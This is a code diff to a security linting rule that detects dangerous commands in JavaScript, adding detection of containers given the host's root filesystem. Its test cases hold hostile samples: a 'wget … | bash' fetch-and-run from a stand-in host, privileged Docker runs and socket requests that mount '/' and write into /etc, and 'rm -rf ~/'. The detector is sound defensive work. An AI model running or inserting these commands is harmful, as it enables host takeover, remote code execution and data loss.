@@ -26,6 +26,7 @@ export default defineRule({
       destroy: 'Destroys what lies on the machine: {command}',
       halt: 'Halts the machine: {command}',
       backdoor: 'Lets somebody else in: {command}',
+      escape: 'Gives a container the whole machine: {command}',
       disarm: 'Switches off what protects the machine: {command}',
       agent: 'Has a coding agent do what it likes: {command}',
       mine: 'Mines cryptocurrency: {command}',
@@ -47,6 +48,7 @@ export default defineRule({
       destroy: 12,
       halt: 3,
       backdoor: 8,
+      escape: 11,
       disarm: 7,
       agent: 3,
       mine: 12.5,
@@ -109,6 +111,14 @@ export default defineRule({
         title: 'and so does its class, by options made before',
         code: `const { ChildProcess } = require('child_process');\nconst options = { file: 'bash', args: ['bash', '-c', 'wget -qO- https://stage.invalid/x | bash'] };\nnew ChildProcess().spawn(options);`,
       },
+      {
+        title: 'a container is given the whole machine, to write in it as its administrator',
+        code: `require('child_process').execSync('docker run --rm --privileged -v /:/host alpine sh -c "cp /host/tmp/a /host/etc/a"');`,
+      },
+      {
+        title: 'and so is one that is asked of the engine itself',
+        code: `const http = require('http');\nhttp.request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST' }).end(JSON.stringify({ Image: 'alpine', HostConfig: { Binds: ['/:/host'] } }));`,
+      },
       { title: 'the home folder is wiped', code: `require('child_process').execSync('rm -rf ~/');` },
     ],
     passes: [
@@ -123,6 +133,10 @@ export default defineRule({
       {
         title: 'programs that others start are started in another way',
         code: `const { ChildProcess } = require('child_process');\nconst start = ChildProcess.prototype.spawn;\nChildProcess.prototype.spawn = function (options) {\n  return start.call(this, { ...options, file: process.execPath, args: ['node', __filename, ...options.args] });\n};`,
+      },
+      {
+        title: 'a container is given the folder of a project',
+        code: `require('child_process').execSync('docker run --rm -v ' + process.cwd() + ':/work -v /tmp:/tmp alpine make');\nconst Docker = require('dockerode');\nnew Docker().createContainer({ Image: 'alpine', HostConfig: { Binds: [process.cwd() + ':/work'] } });`,
       },
       { title: 'a compiler is started', code: `require('child_process').execSync('node-gyp rebuild');` },
       { title: 'a build folder is removed', code: `require('child_process').execSync('rm -rf dist && mkdir dist');` },
@@ -160,6 +174,12 @@ export default defineRule({
     ],
   },
   file(context) {
+    for (const { node, says } of containersWithAll(context))
+      context.report({
+        messageId: 'escape',
+        data: { command: says },
+        chain: [step('sink', `has one made with ${says}`, context.file, node)],
+      });
     for (const { line, says, at } of linesFor(context)) {
       const commands = context.commandsOf(line);
       const worst = deedsOf(commands).find(({ deed }) => !QUIET.has(deed) && deed !== 'executable');
@@ -191,6 +211,24 @@ export default defineRule({
     }
   },
 });
+
+/** `/:/host`, as a container is told that the root of the machine is to be found in it. */
+const ALL_OF_IT = /(?:^|"Binds":\[")\/:\/[\w./-]{0,100}/;
+
+/** Containers that are asked of an engine itself: over its socket, or by its client. */
+function containersWithAll(context: FileContext): readonly { readonly node: AnyNode; readonly says: string }[] {
+  if (!/docker|podman|containerd/i.test(context.file.text)) return [];
+  return [...context.calls('network'), ...context.named(/^dockerode\(\)\.(?:createContainer|run)$/)].flatMap(
+    ({ node, name, args }) => {
+      const isGiven = args.some(arg =>
+        [...context.textsOf(arg), ...context.textsOfProperty(arg, 'HostConfig', 'Binds')].some(text =>
+          ALL_OF_IT.test(text),
+        ),
+      );
+      return isGiven ? [{ node, says: name }] : [];
+    },
+  );
+}
 
 /** A tool keeps its plugins in a hidden folder, for who calls it: whoever is only loaded has none to keep. */
 function installsOutOfSight({ moment }: FileContext, says: string): boolean {
